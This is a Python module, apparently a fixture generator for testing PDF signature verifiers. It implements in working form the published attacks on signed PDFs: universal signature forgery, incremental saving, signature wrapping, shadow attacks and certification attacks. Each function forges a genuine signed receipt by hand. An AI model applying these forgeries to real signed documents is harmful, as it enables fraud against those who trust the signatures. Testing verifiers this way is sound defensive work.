"""Forged receipts: the published attacks on signed PDF, each made by hand of a genuine receipt.

Sources: Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019: USF, ISA, SWA); Mainka, Mladenov, Rohlmann, "Shadow
Attacks" (NDSS 2021); Rohlmann et al., "Breaking the Specification: PDF Certification" (IEEE S&P 2021: EAA, SSA).
"""

import io
import re
from collections.abc import Callable
from typing import Any

WORDS = b"BT /F1 20 Tf 60 700 Td (forged) Tj ET"


def appended(pdf: bytes, *objects: bytes, trailer: bool = True, root: int | None = None) -> bytes:
    """An incremental update written by hand: objects `n 0 obj…`, a classic table and trailer if wanted."""
    out, places = bytearray(pdf), {}
    for body in objects:
        places[int(body.split(b" ", 1)[0])] = len(out)
        out += body + b"\nendobj\n"
    if trailer:
        start = len(out)
        out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, at) for n, at in places.items())
        out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n" % (
            max(places, default=0) + 1,
            root or root_of(pdf),
            last_xref(pdf),
            start,
        )
    return bytes(out + b"%%EOF\n")


def last_xref(pdf: bytes) -> int:
    """Where the newest cross-reference section stands."""
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def root_of(pdf: bytes) -> int:
    """The number of the catalogue."""
    return int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])


def opened(pdf: bytes) -> Any:
    import pikepdf

    return pikepdf.open(io.BytesIO(pdf))


def page_of(pdf: bytes) -> tuple[int, int, bytes]:
    """Number of the last page's object, of its contents' object, and the page itself as written."""
    with opened(pdf) as file:
        page = file.pages[-1]
        contents = page.Contents
        return page.objgen[0], contents.objgen[0], page.obj.unparse(resolved=True)


def gap(pdf: bytes) -> tuple[int, int]:
    """Where the signature's value begins and ends, its angle brackets included."""
    start = pdf.index(b"/Contents <") + len(b"/Contents ")
    return start, pdf.index(b">", start) + 1


def signature_object(pdf: bytes) -> bytes:
    """The signature dictionary as written, from its number on."""
    end = pdf.index(b"endobj", gap(pdf)[1])
    start = pdf.rindex(b" obj", 0, gap(pdf)[0])
    return pdf[pdf.rindex(b"\n", 0, start - 2) + 1 : end]


def with_contents(pdf: bytes, value: bytes) -> bytes:
    """The signature's value replaced, in as many bytes."""
    start, end = gap(pdf)
    return pdf[:start] + value.ljust(end - start) + pdf[end:]


def with_range(pdf: bytes, value: bytes) -> bytes:
    """The range that the signature says it covers replaced, in as many bytes."""
    found = re.search(rb"/ByteRange \[[^\]]*\] *", pdf)
    assert found
    return pdf[: found.start()] + value.ljust(len(found[0])) + pdf[found.end() :]


def new_contents(pdf: bytes) -> bytes:
    """The page's contents under their old number, with other words."""
    return b"%d 0 obj\n<</Length %d>>stream\n%s\nendstream" % (page_of(pdf)[1], len(WORDS), WORDS)


def isa_with_table(pdf: bytes) -> bytes:
    """Incremental saving: other contents for the page, all as the format wants it."""
    return appended(pdf, new_contents(pdf))


def isa_without_table(pdf: bytes) -> bytes:
    """Incremental saving, variant 2: no cross-reference table and no trailer, which lenient readers rebuild."""
    return appended(pdf, new_contents(pdf), trailer=False)


def isa_with_a_copy_of_the_signature(pdf: bytes) -> bytes:
    """Incremental saving, variant 3: the signature is appended again, so that the newest revision holds one."""
    return appended(pdf, new_contents(pdf), signature_object(pdf))


def isa_signature_without_table(pdf: bytes) -> bytes:
    """Incremental saving, variant 4: as the third, without table and trailer."""
    return appended(pdf, new_contents(pdf), signature_object(pdf), trailer=False)


def isa_trailer_alone(pdf: bytes) -> bytes:
    """A catalogue of its own by a new trailer."""
    number = root_of(pdf) + 500
    with opened(pdf) as file:
        catalogue = file.Root.unparse(resolved=True)
    return appended(pdf, b"%d 0 obj\n%s" % (number, catalogue), root=number)


def shadow_hide(pdf: bytes) -> bytes:
    """Shadow, hide: what lay on top of the page is taken away by pointing its object elsewhere."""
    return appended(pdf, b"%d 0 obj\n<</Length 0>>stream\n\nendstream" % page_of(pdf)[1])


def shadow_replace(pdf: bytes) -> bytes:
    """Shadow, replace: a font is described anew, which many readers hold for harmless."""
    with opened(pdf) as file:
        font = next(iter(file.pages[-1].Resources.Font.values()))
        number, written = font.objgen[0], font.unparse(resolved=True)
    return appended(pdf, b"%d 0 obj\n%s" % (number, written.replace(b"/Type0", b"/Type3")))


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Shadow, hide-and-replace: a hidden second page is shown by a new table."""
    page, _, written = page_of(pdf)
    hidden = b"9000 0 obj\n<</Length %d>>stream\n%s\nendstream" % (len(WORDS), WORDS)
    shown = re.sub(rb"/Contents \d+ 0 R", b"/Contents 9000 0 R", written)
    return appended(pdf, hidden, b"%d 0 obj\n%s" % (page, shown))


def swa_moved_end(pdf: bytes) -> bytes:
    """Wrapping: what the signature covers at the end is moved back, and other objects stand between."""
    start, end = gap(pdf)
    value, rest = pdf[start:end], pdf[end:]
    between = b"\n" + new_contents(pdf) + b"\nendobj\n"
    wrapped = pdf[:start] + value + between + rest
    return with_range(wrapped, b"/ByteRange [0 %d %d %d]" % (start, end + len(between), len(rest)))


def swa_second_range(pdf: bytes) -> bytes:
    """Wrapping: the old range stays, and one that fits the moved end stands in what is not covered."""
    start, end = gap(pdf)
    rest = pdf[end:]
    between = b"\n" + new_contents(pdf) + b"\nendobj\n"
    told = b"\n9001 0 obj\n<</ByteRange [0 %d %10d %d]>>\nendobj\n"
    after = end + len(between) + len(told % (start, 0, len(rest)))
    return pdf[:end] + between + told % (start, after, len(rest)) + rest


def swa_inside_the_value(pdf: bytes) -> bytes:
    """Wrapping: objects stand in the unused end of the signature's own place."""
    start, end = gap(pdf)
    room = pdf[start:end].rstrip(b"0>")
    objects = b">\n" + new_contents(pdf) + b"\nendobj\n<"
    return pdf[:start] + (room + objects).ljust(end - start - 1, b"0") + b">" + pdf[end:]


def evil_annotation(pdf: bytes) -> bytes:
    """Certification: a text laid over the page as an annotation, which lower levels of DocMDP allow."""
    page, _, written = page_of(pdf)
    look = b"9003 0 obj\n<</Type/XObject/Subtype/Form/BBox[0 0 300 50]/Length %d>>stream\n%s\nendstream"
    note = b"9002 0 obj\n<</Type/Annot/Subtype/FreeText/Rect[50 700 350 750]/Contents(forged)/AP<</N 9003 0 R>>>>"
    with_note = re.sub(rb"/Annots \[", b"/Annots [ 9002 0 R ", written)
    return appended(pdf, note, look % (len(WORDS), WORDS), b"%d 0 obj\n%s" % (page, with_note))


def sneaky_signature(pdf: bytes) -> bytes:
    """Certification: a signature field of another, whose look covers what the page says."""
    page, _, written = page_of(pdf)
    field = b"9004 0 obj\n<</FT/Sig/T(Sneaky)/Type/Annot/Subtype/Widget/Rect[50 50 550 800]/F 4/AP<</N 9005 0 R>>>>"
    look = b"9005 0 obj\n<</Type/XObject/Subtype/Form/BBox[0 0 500 750]/Length %d>>stream\n%s\nendstream"
    with_field = re.sub(rb"/Annots \[", b"/Annots [ 9004 0 R ", written)
    return appended(pdf, field, look % (len(WORDS), WORDS), b"%d 0 obj\n%s" % (page, with_field))


def less_certified(pdf: bytes) -> bytes:
    """Certification: the catalogue forgets that the file is certified, so that changes seem allowed."""
    with opened(pdf) as file:
        catalogue = file.Root.unparse(resolved=True)
        number = file.Root.objgen[0]
    return appended(pdf, b"%d 0 obj\n%s" % (number, re.sub(rb"/Perms <<[^>]*>>", b"", catalogue)))


def rewritten(pdf: bytes) -> bytes:
    """The whole file written anew by an editor, which keeps the look and loses the seal's bytes."""
    out = io.BytesIO()
    with opened(pdf) as file:
        file.save(out)
    return out.getvalue()


type Forger = Callable[[bytes], bytes]

USF: dict[str, Forger] = {
    "no value": lambda pdf: with_contents(pdf, b"null"),
    "an empty value": lambda pdf: with_contents(pdf, b"<>"),
    "a value of one zero": lambda pdf: with_contents(pdf, b"<00>"),
    "a value of zeros": lambda pdf: with_contents(pdf, b"<" + b"0" * (gap(pdf)[1] - gap(pdf)[0] - 2) + b">"),
    "the value under another name": lambda pdf: pdf.replace(b"/Contents <", b"/Contentz <"),
    "no range": lambda pdf: with_range(pdf, b""),
    "a range of null": lambda pdf: with_range(pdf, b"/ByteRange null"),
    "an empty range": lambda pdf: with_range(pdf, b"/ByteRange []"),
    "a range of nothing": lambda pdf: with_range(pdf, b"/ByteRange [0 0 0 0]"),
    "a range below zero": lambda pdf: with_range(pdf, b"/ByteRange [0 -1 -1 -1]"),
    "a range of words": lambda pdf: with_range(pdf, b"/ByteRange [a b c d]"),
    "a range of all": lambda pdf: with_range(pdf, b"/ByteRange [0 %d %d 0]" % (len(pdf), len(pdf))),
    "no kind of signature": lambda pdf: pdf.replace(b"/SubFilter", b"/SubFoo   ", 1),
}
"""Universal forgery: a part of the signature left out or made senseless, so that a lax verifier finds nothing wrong."""

ISA: dict[str, Forger] = {
    "contents replaced": isa_with_table,
    "contents replaced, no table": isa_without_table,
    "signature copied": isa_with_a_copy_of_the_signature,
    "signature copied, no table": isa_signature_without_table,
    "another catalogue": isa_trailer_alone,
}
SHADOW: dict[str, Forger] = {
    "hide": shadow_hide,
    "replace": shadow_replace,
    "hide and replace": shadow_hide_and_replace,
}
WRAPPING: dict[str, Forger] = {
    "end moved": swa_moved_end,
    "second range": swa_second_range,
    "inside the value": swa_inside_the_value,
}
CERTIFICATION: dict[str, Forger] = {
    "evil annotation": evil_annotation,
    "sneaky signature": sneaky_signature,
    "certification forgotten": less_certified,
}
